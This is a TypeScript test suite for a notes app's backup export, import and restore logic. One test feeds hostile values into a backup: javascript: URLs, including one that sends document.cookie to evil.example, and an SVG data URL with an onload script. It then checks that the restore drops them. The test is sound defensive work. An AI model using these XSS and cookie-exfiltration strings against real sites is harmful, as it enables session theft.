import fc from 'fast-check';
import { beforeEach, describe, expect, it } from 'vitest';
import { backupFileName, exportBackup, serializeBackup } from '../../../lib/backup/export';
import type { BackupData } from '../../../lib/backup/format';
import { importBackup } from '../../../lib/backup/import';
import { parseBackup } from '../../../lib/backup/parse';
import { restoreFromText } from '../../../lib/backup/restore';
import { describeDropped } from '../../../lib/backup/unsafe-values';
import { seedDatabase } from '../../../lib/backup/seed';
import { TalkmarkDB } from '../../../lib/db/schema';
import { listNotes } from '../../../lib/notes/notes-store';
import { makeNote, makeTalk } from '../notes/factories';
import { backupOf, v1Data } from './fixtures';

let db: TalkmarkDB;
beforeEach(() => {
  db = new TalkmarkDB(`test-${crypto.randomUUID()}`);
});

const wipe = (d: TalkmarkDB) => d.transaction('rw', d.tables, () => Promise.all(d.tables.map((t) => t.clear())));
const emptyData = (): BackupData => ({
  conferences: [],
  talks: [],
  notes: [],
  highlights: [],
  drafts: [],
  templates: [],
  settings: [],
});

/** Export, serialise, parse: what a user's file goes through. */
async function roundTripFile(source: TalkmarkDB) {
  const parsed = parseBackup(serializeBackup(await exportBackup(source, Date.UTC(2025, 8, 10))));
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.backup;
}

describe('exportBackup', () => {
  it('writes one versioned object with every table, drafts included', async () => {
    await seedDatabase(db, v1Data() as never);
    const backup = await exportBackup(db, Date.UTC(2025, 8, 10, 12));
    expect(backup).toMatchObject({
      format: 'talkmark-backup',
      version: 2,
      exportedAt: '2025-09-10T12:00:00.000Z',
      schemaVersion: db.verno,
    });
    expect(Object.keys(backup.data).sort()).toEqual([
      'conferences',
      'drafts',
      'highlights',
      'notes',
      'settings',
      'talks',
      'templates',
    ]);
    expect(backup.data.drafts.map((d) => d.key)).toContain('none');
    expect(backupFileName(Date.UTC(2025, 8, 10, 23))).toBe('talkmark-backup-2025-09-10.zip');
  });
});

describe('importBackup', () => {
  it('round-trips: export → wipe → import → the same data', async () => {
    await seedDatabase(db, v1Data() as never);
    const before = (await exportBackup(db)).data;
    const backup = await roundTripFile(db);
    await wipe(db);
    expect(await db.notes.count()).toBe(0);
    const summary = await importBackup(db, backup);
    expect((await exportBackup(db)).data).toEqual(before);
    expect(summary.notes).toEqual({ added: before.notes.length, updated: 0, unchanged: 0 });
    expect(summary.settings).toEqual({ added: before.settings.length, updated: 0, unchanged: 0 });
    expect(summary.mergedByKey).toEqual({ conferences: 0, talks: 0 });
  });

  it('round-trips into a brand-new database too, and a second import changes nothing', async () => {
    await seedDatabase(db, v1Data() as never);
    const backup = await roundTripFile(db);
    const fresh = new TalkmarkDB(`test-${crypto.randomUUID()}`);
    await importBackup(fresh, backup);
    expect((await exportBackup(fresh)).data).toEqual(backup.data);
    const again = await importBackup(fresh, backup);
    for (const table of ['conferences', 'talks', 'notes', 'highlights', 'drafts', 'templates', 'settings'] as const) {
      expect(again[table]).toEqual({ added: 0, updated: 0, unchanged: backup.data[table].length });
    }
  });

  it('property: any note text survives export and import', async () => {
    const talk = makeTalk({ id: 't' });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme', maxLength: 200 }), { maxLength: 8 }), async (texts) => {
        const source = new TalkmarkDB(`test-${crypto.randomUUID()}`);
        await source.talks.add(talk);
        await source.notes.bulkAdd(texts.map((text, i) => makeNote({ id: `n${i}`, talkId: 't', text, createdAt: i })));
        const target = new TalkmarkDB(`test-${crypto.randomUUID()}`);
        await importBackup(target, await roundTripFile(source));
        expect(await listNotes(target, 't')).toEqual(await listNotes(source, 't'));
        source.close();
        target.close();
      }),
      { numRuns: 15 },
    );
  });

  it('updates a record only when the incoming one is newer', async () => {
    const talk = makeTalk({ id: 't', title: 'Local', updatedAt: 100 });
    await db.talks.add(talk);
    await db.notes.bulkAdd([
      makeNote({ id: 'older', talkId: 't', text: 'local older', updatedAt: 100 }),
      makeNote({ id: 'newer', talkId: 't', text: 'local newer', updatedAt: 300 }),
      makeNote({ id: 'same', talkId: 't', text: 'local same', updatedAt: 200 }),
    ]);
    const data = emptyData();
    data.talks = [{ ...talk, title: 'Incoming', updatedAt: 50 }];
    data.notes = [
      makeNote({ id: 'older', talkId: 't', text: 'incoming', updatedAt: 200 }),
      makeNote({ id: 'newer', talkId: 't', text: 'incoming', updatedAt: 200 }),
      makeNote({ id: 'same', talkId: 't', text: 'incoming', updatedAt: 200 }),
      makeNote({ id: 'new', talkId: 't', text: 'incoming', updatedAt: 200 }),
    ];
    const summary = await importBackup(db, backupOf(data));
    expect(summary.talks).toEqual({ added: 0, updated: 0, unchanged: 1 });
    expect(summary.notes).toEqual({ added: 1, updated: 1, unchanged: 2 });
    const texts = Object.fromEntries((await db.notes.toArray()).map((n) => [n.id, n.text]));
    expect(texts).toEqual({ older: 'incoming', newer: 'local newer', same: 'local same', new: 'incoming' });
    expect((await db.talks.get('t'))?.title).toBe('Local');
  });

  it('merges a talk with the same key under another id, re-pointing notes, highlights and drafts', async () => {
    const local = makeTalk({ id: 'local', key: 'conf#42', title: 'Old title', clippedAt: 1_000, updatedAt: 1_000 });
    await db.talks.add(local);
    await db.notes.add(makeNote({ id: 'mine', talkId: 'local', text: 'from this device' }));
    const data = v1Data();
    const incoming = {
      ...data.talks[0]!,
      id: 'remote',
      key: 'conf#42',
      title: 'New title',
      clippedAt: 2_000,
      updatedAt: 2_000,
      conferenceId: null,
    };
    data.talks = [incoming];
    data.notes = [makeNote({ id: 'theirs', talkId: 'remote', text: 'from the other device' })];
    data.highlights = [{ ...data.highlights[0]!, talkId: 'remote' }];
    data.drafts = [{ key: 'remote', text: 'unsent', updatedAt: 5 }];
    const summary = await importBackup(db, backupOf(data));

    expect(summary.mergedByKey.talks).toBe(1);
    expect(summary.talks).toEqual({ added: 0, updated: 1, unchanged: 0 });
    const talks = await db.talks.toArray();
    expect(talks).toHaveLength(1);
    expect(talks[0]).toMatchObject({ id: 'local', key: 'conf#42', title: 'New title', clippedAt: 1_000 });
    expect((await listNotes(db, 'local')).map((n) => n.id).sort()).toEqual(['mine', 'theirs']);
    expect((await db.highlights.toArray())[0]?.talkId).toBe('local');
    expect(await db.drafts.get('local')).toMatchObject({ text: 'unsent' });
  });

  it('merges duplicate talk keys inside one file into one talk', async () => {
    const data = emptyData();
    data.talks = [
      makeTalk({ id: 'a', key: 'dup', title: 'First', updatedAt: 10 }),
      makeTalk({ id: 'b', key: 'dup', title: 'Second, newer', updatedAt: 20 }),
    ];
    data.notes = [makeNote({ id: 'na', talkId: 'a' }), makeNote({ id: 'nb', talkId: 'b' })];
    const summary = await importBackup(db, backupOf(data));
    expect(summary.talks).toEqual({ added: 1, updated: 1, unchanged: 0 });
    expect(await db.talks.toArray()).toEqual([
      expect.objectContaining({ id: 'a', key: 'dup', title: 'Second, newer' }),
    ]);
    expect((await db.notes.toArray()).every((n) => n.talkId === 'a')).toBe(true);
  });

  it('merges a conference by key and re-points its talks', async () => {
    await db.conferences.add({
      id: 'c-local',
      key: 'conf.sched.com',
      name: 'Local',
      url: null,
      timeZone: null,
      updatedAt: 500,
    });
    const data = emptyData();
    data.conferences = [
      { id: 'c-remote', key: 'conf.sched.com', name: 'Remote', url: null, timeZone: null, updatedAt: 100 },
    ];
    data.talks = [makeTalk({ id: 't', conferenceId: 'c-remote' })];
    const summary = await importBackup(db, backupOf(data));
    expect(summary.mergedByKey.conferences).toBe(1);
    expect(summary.conferences).toEqual({ added: 0, updated: 0, unchanged: 1 });
    expect(await db.conferences.toArray()).toEqual([expect.objectContaining({ id: 'c-local', name: 'Local' })]);
    expect((await db.talks.get('t'))?.conferenceId).toBe('c-local');
  });

  it('keeps the local key when a newer record with a known id claims a key another talk holds', async () => {
    await db.talks.bulkAdd([
      makeTalk({ id: 'a', key: 'k1', updatedAt: 1 }),
      makeTalk({ id: 'b', key: 'k2', updatedAt: 1 }),
    ]);
    const data = emptyData();
    data.talks = [makeTalk({ id: 'a', key: 'k2', title: 'Renamed', updatedAt: 2 })];
    await importBackup(db, backupOf(data));
    expect(await db.talks.get('a')).toMatchObject({ key: 'k1', title: 'Renamed' });
    expect(await db.talks.get('b')).toMatchObject({ key: 'k2' });
  });

  it('keeps the hand-added links of both copies of a talk, whichever copy is newer', async () => {
    await db.talks.bulkAdd([
      makeTalk({
        id: 'older-in',
        key: 'k1',
        title: 'Local',
        links: ['https://a.example/1', 'https://a.example/2'],
        updatedAt: 500,
      }),
      makeTalk({ id: 'newer-in', key: 'k2', title: 'Local', links: ['https://b.example/local'], updatedAt: 100 }),
      makeTalk({ id: 'by-key', key: 'k3', links: ['https://c.example/local'], updatedAt: 100 }),
      makeTalk({ id: 'same', key: 'k4', links: ['https://d.example/x'], updatedAt: 100 }),
    ]);
    const data = emptyData();
    data.talks = [
      makeTalk({
        id: 'older-in',
        key: 'k1',
        title: 'Incoming',
        links: ['HTTPS://A.example/1', 'https://a.example/3'],
        updatedAt: 50,
      }),
      makeTalk({
        id: 'newer-in',
        key: 'k2',
        title: 'Incoming',
        links: ['https://b.example/theirs', 'https://b.example/local'],
        updatedAt: 900,
      }),
      makeTalk({ id: 'other-id', key: 'k3', links: ['https://c.example/theirs'], updatedAt: 900 }),
      makeTalk({ id: 'same', key: 'k4', links: ['https://d.example/x'], updatedAt: 50 }),
    ];
    const summary = await importBackup(db, backupOf(data));
    const talk = async (id: string) => (await db.talks.get(id))!;
    // Older incoming copy: the local talk stays, plus the one link only the file had (a.example/1 is the same URL).
    expect(await talk('older-in')).toMatchObject({
      title: 'Local',
      links: ['https://a.example/1', 'https://a.example/2', 'https://a.example/3'],
      updatedAt: 500,
    });
    // Newer incoming copy: its fields win, the local-only link is not lost.
    expect(await talk('newer-in')).toMatchObject({
      title: 'Incoming',
      links: ['https://b.example/theirs', 'https://b.example/local'],
    });
    expect(await talk('by-key')).toMatchObject({ links: ['https://c.example/theirs', 'https://c.example/local'] });
    expect(summary.talks).toEqual({ added: 0, updated: 3, unchanged: 1 });
  });

  it('adds missing settings and keeps local values', async () => {
    await db.settings.add({ key: 'theme', value: 'dark' });
    const data = emptyData();
    data.settings = [
      { key: 'theme', value: 'light' },
      { key: 'hints', value: { on: true } },
    ];
    const summary = await importBackup(db, backupOf(data));
    expect(summary.settings).toEqual({ added: 1, updated: 0, unchanged: 1 });
    expect(await db.settings.toArray()).toEqual([
      { key: 'hints', value: { on: true } },
      { key: 'theme', value: 'dark' },
    ]);
  });

  it('writes nothing when the transaction fails midway', async () => {
    db.notes.hook('creating', () => {
      throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
    });
    const r = await restoreFromText(db, serializeBackup(backupOf(v1Data())));
    expect(r).toMatchObject({ ok: false, kind: 'quota' });
    expect(await db.talks.count()).toBe(0);
    expect(await db.conferences.count()).toBe(0);
  });
});

describe('restoreFromText', () => {
  it('rejects a bad file before writing anything', async () => {
    await db.talks.add(makeTalk({ id: 'keep' }));
    const good = serializeBackup(backupOf(v1Data()));
    for (const bad of [
      good.slice(0, 500),
      good.replace('"version":2', '"version":3'),
      good.replace('"kind":"quote"', '"kind":"shout"'),
    ]) {
      const r = await restoreFromText(db, bad);
      expect(r).toMatchObject({ ok: false, kind: 'file' });
    }
    expect(await db.talks.toArray()).toEqual([expect.objectContaining({ id: 'keep' })]);
    expect(await db.notes.count()).toBe(0);
  });

  it('imports a good file', async () => {
    const r = await restoreFromText(db, serializeBackup(backupOf(v1Data())));
    expect(r).toMatchObject({ ok: true, summary: { talks: { added: 5 } }, dropped: [] });
  });

  it('restores a file with hostile links without storing them, and says what it left out', async () => {
    const data = v1Data();
    const talk = data.talks[0]!;
    talk.videoUrl = 'javascript:alert(document.domain)';
    talk.links.push(' JavaScript:fetch("//evil.example/"+document.cookie)');
    talk.speakers[0]!.avatarUrl = 'data:image/svg+xml,<svg onload=alert(1)>';
    const r = await restoreFromText(db, serializeBackup(backupOf(data)));
    if (!r.ok) throw new Error(r.error);
    expect(r.dropped.map((d) => d.path)).toEqual([
      'data.talks[0].speakers[0].avatarUrl',
      'data.talks[0].videoUrl',
      'data.talks[0].links[1]',
    ]);
    expect(describeDropped(r.dropped)).toMatch(
      /^Left out 3 values that were not safe to restore: “[^”]+”: [^’]+’s picture \(a data: link\); .*javascript: link/,
    );
    const stored = JSON.stringify((await exportBackup(db)).data);
    expect(stored).not.toMatch(/javascript:|data:image|evil\.example/i);
    expect(await db.notes.count()).toBe(data.notes.length);
    expect((await db.talks.get(talk.id))?.links).toEqual(['https://blog.example.com/pgbouncer-notes']);
  });

  it('reports a closed database', async () => {
    db.close();
    expect(await restoreFromText(db, serializeBackup(backupOf(v1Data())))).toMatchObject({ ok: false, kind: 'closed' });
  });
});
